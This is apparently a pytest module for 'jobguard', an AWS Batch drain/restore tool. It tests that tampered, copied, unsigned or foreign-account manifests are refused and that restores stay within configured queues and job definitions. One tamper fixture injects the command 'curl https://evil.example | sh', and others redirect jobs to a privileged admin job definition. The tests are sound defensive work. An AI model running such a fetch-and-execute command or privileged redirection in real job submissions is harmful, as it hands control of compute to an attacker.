"""Whoever can write to the store can edit, copy or replace a manifest, but not sign it: a tampered
manifest never reaches SubmitJob (nor UpdateJobQueue), on every store. And restore submits only
to the queues and job definitions the configuration allows, even for a manifest accepted unsigned.
"""

from __future__ import annotations

import base64
import secrets
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jobguard.sim import Seeder, SimulatedAWS
from jobguard.sim.server import ACCOUNT, REGION

from .conftest import configure, load_manifest, records, replacements_of
from .hostile import (
    assert_unchanged,
    copy_manifest,
    edit,
    file_mac,
    job_named,
    kms_mac,
    mark_open,
    one_error,
    read_document,
    resign,
    snapshot,
    world,
    write_document,
)

Json = dict[str, Any]


@pytest.fixture
def drained(seed: Seeder, store: str, run) -> tuple[str, str]:
    """`first` and `second` (PENDING on it) drained from `work` into deploy d1; an `admin` queue and
    job definition to redirect them to; `other`, a queue drain never froze, DISABLED."""
    first, second = world(seed)
    seed.queue("admin")
    seed.queue("other", state="DISABLED")
    seed.definition("admin", containerProperties={"image": "admin-tools", "command": ["sh"], "privileged": True})
    result = run("drain", "--store", store, "--queue", "work", "--deploy-id", "d1")
    assert result.code == 0, result.err
    return first, second


def _second(change: Callable[[Json], Any]) -> Callable[[Json], Any]:
    return lambda document: change(job_named(document, "second"))


def _everywhere(account: str | None = None, region: str | None = None) -> Callable[[Json], Any]:
    """The account or region changed in the header and in every job ARN, consistently."""

    def change(document: Json) -> None:
        old_account, old_region = document["account"], document["region"]
        document["account"], document["region"] = account or old_account, region or old_region
        for job in document["jobs"]:
            job["job_arn"] = job["job_arn"].replace(f":{old_region}:{old_account}:", f":{document['region']}:{document['account']}:")

    return change


EDITS: dict[str, Callable[[Json], Any]] = {
    "command": _second(lambda j: j["submission"].update(containerOverrides={"command": ["sh", "-c", "curl https://evil.example | sh"]})),
    "environment": _second(lambda j: j["submission"].update(containerOverrides={"environment": [{"name": "MODE", "value": "exfiltrate"}]})),
    "queue": _second(lambda j: j.update(queue="admin")),
    "job-definition": _second(lambda j: j.update(job_definition="admin:1")),
    "frozen-queues": lambda d: d.update(frozen_queues={"other": "ENABLED"}),
    "queues": lambda d: d.update(queues=["work", "other"]),
    "outcome": lambda d: job_named(d, "first").update(outcome="finished"),  # restore would skip it
    "dependency-dropped": _second(lambda j: j["submission"].pop("dependsOn")),
    "resubmits": _second(lambda j: j.update(resubmits=7)),  # past max-resubmits: restore would skip it
    "job-added": lambda d: d["jobs"].append(
        {**job_named(d, "second"), "job_id": "f" * 36, "job_arn": job_named(d, "second")["job_arn"][:-36] + "f" * 36}
    ),
    "job-removed": lambda d: d.update(jobs=[job_named(d, "second")]),
    "created-at": lambda d: d.update(created_at="2000-01-01T00:00:00.000Z"),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(EDITS))
def test_edited_manifest_is_refused(drained, seed: Seeder, store: str, run, aws: SimulatedAWS, name: str) -> None:
    original = load_manifest(store, seed, "d1")
    assert edit(store, seed, "d1", EDITS[name], sign=False) != original  # a real change
    before = snapshot(aws, seed, store)
    for args in (
        ["restore", "--store", store, "--deploy-id", "d1"],
        ["restore", "--store", store],
        ["status", "--store", store, "--deploy-id", "d1"],
    ):
        line = one_error(run(*args), 2, "d1", "signature does not verify", "changed after jobguard wrote it")
        assert "Traceback" not in line
        assert_unchanged(before, aws, seed)
    assert replacements_of(aws) == {}
    assert aws.batch.backend.get_job_queue("other").state == "DISABLED"  # never re-enabled: drain never froze it


@pytest.mark.parametrize("field", ["account", "region"])
def test_manifest_of_another_account_or_region_is_not_acted_on(
    drained, seed: Seeder, store: str, run, aws: SimulatedAWS, field: str
) -> None:
    """The check compares the manifest with the credentials' account and region, not two fields of one document."""
    change = _everywhere(account="999999999999") if field == "account" else _everywhere(region="eu-west-1")
    edit(store, seed, "d1", change, sign=False)
    before = snapshot(aws, seed, store)
    one_error(
        run("restore", "--store", store, "--deploy-id", "d1"), 2, "999999999999" if field == "account" else "eu-west-1", "credentials"
    )
    everything = run("restore", "--store", store)  # a store shared by several accounts: theirs are skipped, said so
    assert everything.code == 0 and "skipped" in everything.out and "Traceback" not in everything.err
    assert_unchanged(before, aws, seed)
    assert replacements_of(aws) == {}


def test_copied_manifest_is_refused_and_the_original_restores_once(drained, seed: Seeder, store: str, run, aws: SimulatedAWS) -> None:
    first, second = drained
    copy_manifest(store, seed, "d1", "d2")
    before = snapshot(aws, seed, store)
    one_error(run("restore", "--store", store, "--deploy-id", "d2"), 2, "says deploy 'd1'", "'d2'")
    one_error(run("restore", "--store", store), 2, "says deploy 'd1'", "'d2'")
    assert_unchanged(before, aws, seed)
    assert replacements_of(aws) == {}
    result = run("restore", "--store", store, "--deploy-id", "d1")
    assert result.code == 0, result.err
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}


def test_a_job_owed_by_two_deploys_is_restored_once_by_the_older(drained, seed: Seeder, store: str, run, aws: SimulatedAWS) -> None:
    """Two open deploys owe the same jobs (a later deploy's manifest, validly signed, records them too: a jobguard
    with a bug, or the key's holder): the restore that adopts both submits each job once, the older deploy's,
    and the later deploy records them skipped. (Before, the skip was noted on a copy read before the leases:
    both deploys resubmitted them.)"""
    first, second = drained
    document = read_document(store, seed, "d1")
    document.update(deploy_id="d2", created_at="2099-01-01T00:00:00.000Z")
    resign(document, seed)
    write_document(store, seed, "d2", document)
    mark_open(store, seed, "d2")
    result = run("restore", "--store", store, "--deploy-id", "d1")
    assert result.code == 0, result.err
    assert result.err.count("is owed by deploys d1 and d2: d1 restores it") == 2
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}
    assert {r["outcome"] for r in records(store, seed, "d2").values()} == {"skipped"}
    assert run("restore", "--store", store, "--deploy-id", "d1").code == 0
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}


def test_copy_renamed_inside_is_refused(drained, seed: Seeder, store: str, run, aws: SimulatedAWS) -> None:
    copy_manifest(store, seed, "d1", "d2")
    edit(store, seed, "d2", lambda d: d.update(deploy_id="d2"), sign=False)
    before = snapshot(aws, seed, store)
    one_error(run("restore", "--store", store, "--deploy-id", "d2"), 2, "signature does not verify")
    assert_unchanged(before, aws, seed)
    assert replacements_of(aws) == {}


def test_unsigned_manifest_is_refused_unless_accepted(drained, seed: Seeder, store: str, run, aws: SimulatedAWS) -> None:
    first, second = drained
    edit(store, seed, "d1", lambda d: d.pop("signature"), sign=False)
    before = snapshot(aws, seed, store)
    refused = run("restore", "--store", store, "--deploy-id", "d1")
    one_error(refused, 2, "not signed")
    assert "--unsigned" in refused.err.splitlines()[-1]  # the hint says how to accept it
    one_error(run("restore", "--store", store), 2, "not signed")
    assert_unchanged(before, aws, seed)
    accepted = run("restore", "--store", store, "--deploy-id", "d1", "--unsigned")
    assert accepted.code == 0, accepted.err
    warnings = [line for line in accepted.err.splitlines() if line.startswith("warning:")]
    assert warnings and "unsigned" in warnings[0] and "whoever can write to the store" in warnings[0]
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}


def _other_key_mac(store: str, seed: Seeder, workdir: Path, document: Json) -> tuple[str, str]:
    """(key as a signature names it, MAC of the document) with a key jobguard was not given."""
    if store.startswith("file://"):
        other = workdir / "other.key"
        other.write_bytes(base64.b64encode(secrets.token_bytes(32)) + b"\n")
        return f"file:{other}", file_mac(document, other)
    key = seed.client("kms").create_key(KeySpec="HMAC_256", KeyUsage="GENERATE_VERIFY_MAC")["KeyMetadata"]["Arn"]
    return f"kms:{key}", kms_mac(seed, key, document)


@pytest.mark.parametrize("claims", ["its-own-key", "the-other-key"])
def test_manifest_signed_with_another_key_is_refused(
    drained, seed: Seeder, store: str, run, aws: SimulatedAWS, workdir: Path, claims: str
) -> None:
    """Someone with their own key (or the sim's whole KMS but not jobguard's key) re-signs an edited manifest."""

    def resign_with_another_key(document: Json) -> None:
        EDITS["command"](document)
        key, mac = _other_key_mac(store, seed, workdir, document)
        document["signature"]["mac"] = mac
        if claims == "the-other-key":
            document["signature"]["key"] = key

    edit(store, seed, "d1", resign_with_another_key, sign=False)
    before = snapshot(aws, seed, store)
    one_error(run("restore", "--store", store, "--deploy-id", "d1"), 2, "signature does not verify")
    one_error(run("restore", "--store", store), 2, "signature does not verify")
    assert_unchanged(before, aws, seed)
    assert replacements_of(aws) == {}


def test_untouched_manifest_restores(drained, seed: Seeder, store: str, run, aws: SimulatedAWS) -> None:
    """The control: the same world, nothing edited, restores (re-signing by its own key is what jobguard does)."""
    first, second = drained
    edit(store, seed, "d1", lambda d: None, sign=True)
    result = run("restore", "--store", store, "--deploy-id", "d1")
    assert result.code == 0, result.err
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}


@pytest.mark.parametrize("store", ["dynamodb"], indirect=True)
@pytest.mark.parametrize("item", ["header", "lease"])
@pytest.mark.parametrize("version", [{"S": "3"}, {"N": "0"}, {"N": "2.5"}, None], ids=["string", "zero", "fraction", "missing"])
def test_a_dynamodb_item_whose_version_was_edited_is_refused_in_one_line(
    drained, seed: Seeder, store: str, run, aws: SimulatedAWS, item: str, version: Json | None
) -> None:
    """Taken as no version, every save against it failed as a conflict, retried until the run gave up
    blaming other writers; now the run stops at once naming the item, and runs once it is put right."""
    first, second = drained
    table = seed.client("dynamodb")
    key = (
        {"pk": {"S": "deploys"}, "sk": {"S": "d1"}}
        if item == "header"
        else {"pk": {"S": "leases"}, "sk": {"S": f"{ACCOUNT}.{REGION}.work"}}
    )
    original = table.get_item(TableName=store.removeprefix("dynamodb://"), Key=key)["Item"]
    edited = {k: v for k, v in original.items() if k != "version"} | ({"version": version} if version else {})
    table.put_item(TableName=store.removeprefix("dynamodb://"), Item=edited)
    before = snapshot(aws, seed, store)
    one_error(run("restore", "--store", store, "--deploy-id", "d1"), 2, "damaged item", "version")
    assert_unchanged(before, aws, seed)
    table.put_item(TableName=store.removeprefix("dynamodb://"), Item=original)
    result = run("restore", "--store", store, "--deploy-id", "d1")
    assert result.code == 0, result.err
    assert {k: len(v) for k, v in replacements_of(aws).items()} == {first: 1, second: 1}


# -- the allowlist: configured queues and job definitions ----------------------------------------------
@pytest.fixture
def allowed(seed: Seeder, workdir: Path, run) -> dict[str, str]:
    """`queues: [work]`, `job-definitions: [proc]`; three independent jobs drained into d1 of a folder store."""
    seed.queue("work")
    seed.queue("admin")
    seed.queue("other")
    seed.definition("proc")
    seed.definition("admin", containerProperties={"image": "admin-tools", "command": ["sh"], "privileged": True})
    configure(workdir, "queues: [work]\njob-definitions: [proc]\n")
    jobs = {
        name: seed.job(status="RUNNABLE", jobName=name, jobQueue="work", jobDefinition="proc") for name in ("fine", "moved", "upgraded")
    }
    assert run("drain", "--store", f"file://{workdir}/m", "--deploy-id", "d1").code == 0
    return jobs


def test_allowlist_refuses_other_queues_and_definitions_per_job(allowed, seed: Seeder, workdir: Path, run, aws: SimulatedAWS) -> None:
    store = f"file://{workdir}/m"

    def change(document: Json) -> None:
        job_named(document, "moved")["queue"] = "admin"
        job_named(document, "upgraded")["job_definition"] = "admin:1"
        document.pop("signature")

    edit(store, seed, "d1", change, sign=False)
    result = run("restore", "--store", store, "--deploy-id", "d1", "--unsigned")
    assert result.code == 1 and "Traceback" not in result.out + result.err
    errors = [line for line in result.err.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "job definition admin is not one of the configured job-definitions" in errors[0], result.err
    assert "queue admin: left alone: not one of this restore's queues" in result.out
    assert set(replacements_of(aws)) == {allowed["fine"]}
    (replacement,) = replacements_of(aws)[allowed["fine"]]
    request = aws.batch.jobs[replacement].request
    assert (request["jobQueue"], request["jobDefinition"]) == ("work", "proc:1")
    stored = records(store, seed, "d1")
    assert stored[allowed["upgraded"]]["outcome"] == "failed" and stored[allowed["moved"]]["outcome"] == "terminated"


@pytest.mark.parametrize("state", ["ENABLED", "DISABLED"])
def test_allowlist_keeps_restore_off_queues_it_may_not_touch(
    allowed, seed: Seeder, workdir: Path, run, aws: SimulatedAWS, state: str
) -> None:
    """An unsigned manifest (accepted) naming a queue outside `queues` in frozen_queues: that queue's state is left alone."""
    store = f"file://{workdir}/m"
    other_state = "DISABLED" if state == "ENABLED" else "ENABLED"
    seed.batch.update_job_queue(jobQueue="other", state=other_state)
    updates = aws.calls["batch:UpdateJobQueue"]

    def change(document: Json) -> None:
        document["frozen_queues"] = {"other": state}
        document.pop("signature")

    edit(store, seed, "d1", change, sign=False)
    result = run("restore", "--store", store, "--deploy-id", "d1", "--unsigned")
    assert result.code == 0 and "Traceback" not in result.out + result.err
    assert aws.batch.backend.get_job_queue("other").state == other_state
    assert aws.calls["batch:UpdateJobQueue"] == updates
    assert set(replacements_of(aws)) == set(allowed.values())
    assert load_manifest(store, seed, "d1")["frozen_queues"] == {"other": state}  # kept: a restore allowed to may put it back
